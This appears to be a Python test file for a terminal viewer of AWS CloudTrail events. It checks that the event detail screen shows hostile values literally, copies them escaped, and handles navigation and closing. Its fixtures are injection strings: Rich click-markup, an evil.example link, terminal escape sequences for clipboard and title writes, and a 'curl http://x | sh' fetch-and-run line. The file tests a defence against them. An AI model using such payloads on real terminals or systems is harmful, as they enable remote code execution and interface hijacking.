"""The event detail screen on its own: hostile values shown literally, copy, next/previous, close."""

from __future__ import annotations

import json

import pyarrow as pa
from rich.text import Text
from textual.app import App

from ctui.tui.drill.detail import DetailOutcome, EventDetailScreen
from ctui.tui.drill.jsontree import JsonTree
from ctui.tui.safe import escape_controls
from tests.functional.drill_support import tree_node

HOSTILE_UA = "[@click=app.quit]boom[/] [link=http://evil.example/]x[/link] \x1b]52;c;SGk=\x1b\\ \x1b[31m[/]"


def _table() -> pa.Table:
    identity = pa.struct([("arn", pa.string()), ("principalid", pa.string())])
    return pa.table(
        {
            "eventtime": ["2024-06-10T12:00:00Z", "2024-06-10T12:00:01Z", "2024-06-10T12:00:02Z"],
            "eventname": ["DescribeAutoScalingGroups", "RunInstances", "GetObject"],
            "useridentity": pa.array(
                [{"arn": "arn:a", "principalid": "A"}, {"arn": "arn:b", "principalid": "B"}, None], identity
            ),
            "useragent": [HOSTILE_UA, "aws-cli/2", None],
            "requestparameters": ['{"maxRecords": 100, "names": ["[b]x[/b]", "y"]}', "not json", None],
            "errorcode": ["RequestLimitExceeded", None, None],
        }
    )


class DetailApp(App[None]):
    def __init__(self, index: int = 0) -> None:
        super().__init__()
        self.index = index
        self.outcomes: list[DetailOutcome | None] = []

    def on_mount(self) -> None:
        self.push_screen(EventDetailScreen(_table(), self.index), self.outcomes.append)


async def test_hostile_user_agent_is_shown_literally_and_copied_raw() -> None:
    app = DetailApp()
    async with app.run_test(size=(120, 40)) as pilot:
        tree = app.screen.query_one(JsonTree)
        node = tree_node(tree, "$.useragent")
        label = node.label
        assert isinstance(label, Text)
        assert "[@click=app.quit]boom[/]" in label.plain and "\\x1b]52;c;SGk=" in label.plain
        assert "\x1b" not in label.plain
        assert all(not span.style or "@click" not in str(span.style) for span in label.spans)
        # the rendered screen holds the literal text, and clicking it runs nothing
        tree.move_cursor(node)
        await pilot.pause()
        await pilot.click(JsonTree, offset=(8, node.line - tree.scroll_offset.y))
        await pilot.pause()
        assert app.is_running
        await pilot.press("y")
        assert app.clipboard == escape_controls(HOSTILE_UA)  # escaped like the grid


async def test_json_text_fields_are_parsed_into_the_tree() -> None:
    app = DetailApp()
    async with app.run_test(size=(120, 40)) as pilot:
        tree = app.screen.query_one(JsonTree)
        assert tree_node(tree, "$.requestparameters.maxRecords").data.value == 100
        names = tree_node(tree, "$.requestparameters.names[0]")
        assert names.label.plain.endswith("[b]x[/b]")  # markup in a parsed value stays literal
        assert tree_node(tree, "$.useridentity.arn").data.value == "arn:a"
        tree.move_cursor(tree_node(tree, "$.requestparameters"))
        await pilot.press("y")
        assert json.loads(app.clipboard) == {"maxRecords": 100, "names": ["[b]x[/b]", "y"]}
        await pilot.press("Y")
        whole = json.loads(app.clipboard)
        assert whole["requestparameters"]["maxRecords"] == 100 and whole["useragent"] == HOSTILE_UA


async def test_next_previous_and_close_report_the_row() -> None:
    app = DetailApp()
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        assert isinstance(screen, EventDetailScreen)
        await pilot.press("n")
        assert screen.record["eventname"] == "RunInstances"
        tree = screen.query_one(JsonTree)
        assert tree_node(tree, "$.requestparameters").data.value == "not json"  # kept as text
        await pilot.press("n")
        assert screen.record["eventname"] == "GetObject" and screen.record["useridentity"] is None
        await pilot.press("n")  # past the end: stays, warns
        assert screen.index == 2
        await pilot.press("p", "p", "p")
        assert screen.index == 0
        await pilot.press("n", "escape")
        await pilot.pause()
        assert app.outcomes == [DetailOutcome(1)]


async def test_context_key_closes_with_the_request() -> None:
    app = DetailApp(index=2)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("c")
        await pilot.pause()
        assert app.outcomes == [DetailOutcome(2, "context")]


async def test_expand_all_toggles() -> None:
    app = DetailApp()
    async with app.run_test(size=(120, 40)) as pilot:
        tree = app.screen.query_one(JsonTree)
        names = tree_node(tree, "$.requestparameters.names")
        assert not names.is_expanded
        await pilot.press("E")
        assert names.is_expanded
        await pilot.press("E")
        assert not tree_node(tree, "$.requestparameters").is_expanded


def test_detail_snapshot_shows_hostile_values_literally(snap_compare) -> None:
    assert snap_compare(DetailApp(), terminal_size=(100, 24))


async def test_the_title_names_a_caller_without_an_arn_and_empty_strings_are_shown() -> None:
    table = pa.table(
        {
            "eventtime": ["2024-06-10T12:00:00Z"],
            "eventname": ["AssumeRole"],
            "useridentity": [{"type": "AWSService", "invokedby": "ec2.amazonaws.com", "arn": None}],
            "errorcode": [""],
            "errormessage": [None],
        }
    )

    class One(App[None]):
        def on_mount(self) -> None:
            self.push_screen(EventDetailScreen(table, 0))

    app = One()
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        title = str(app.screen.query_one("#detail-title").render())
        assert "AssumeRole" in title and "ec2.amazonaws.com" in title
        tree = app.screen.query_one(JsonTree)
        assert tree_node(tree, "$.errorcode").label.plain == 'errorcode: ""'
        assert tree_node(tree, "$.errormessage").label.plain == "errormessage: null"


async def test_v_on_a_field_shows_its_line_breaks_as_lines() -> None:
    from ctui.tui.screens.value import ValueScreen

    script = "#!/bin/sh\ncurl http://x | sh \x1b]0;owned\x07[b]bold?[/b]"
    parameters = [json.dumps({"userData": script})]
    table = pa.table({"eventtime": ["2024-06-10T12:00:00Z"], "requestparameters": parameters})

    class One(App[None]):
        def on_mount(self) -> None:
            self.push_screen(EventDetailScreen(table, 0))

    app = One()
    async with app.run_test(size=(120, 30)) as pilot:
        tree = app.screen.query_one(JsonTree)
        tree.move_cursor(tree_node(tree, "$.requestparameters.userData"))
        await pilot.press("v")
        assert isinstance(app.screen, ValueScreen)
        lines = str(app.screen.query_one("#value-text").render()).split("\n")
        assert lines == ["#!/bin/sh", "curl http://x | sh \\x1b]0;owned\\x07[b]bold?[/b]"]
        await pilot.press("escape")
        assert isinstance(app.screen, EventDetailScreen)


async def test_the_footer_shows_keep_drop_and_pivot_whole_at_80_columns() -> None:
    app = DetailApp()
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        footer = "".join(segment.text for segment in app.screen._compositor.render_strips()[-3])  # noqa: SLF001
        assert "i Keep e Drop F Pivot" in footer and "c Context" in footer
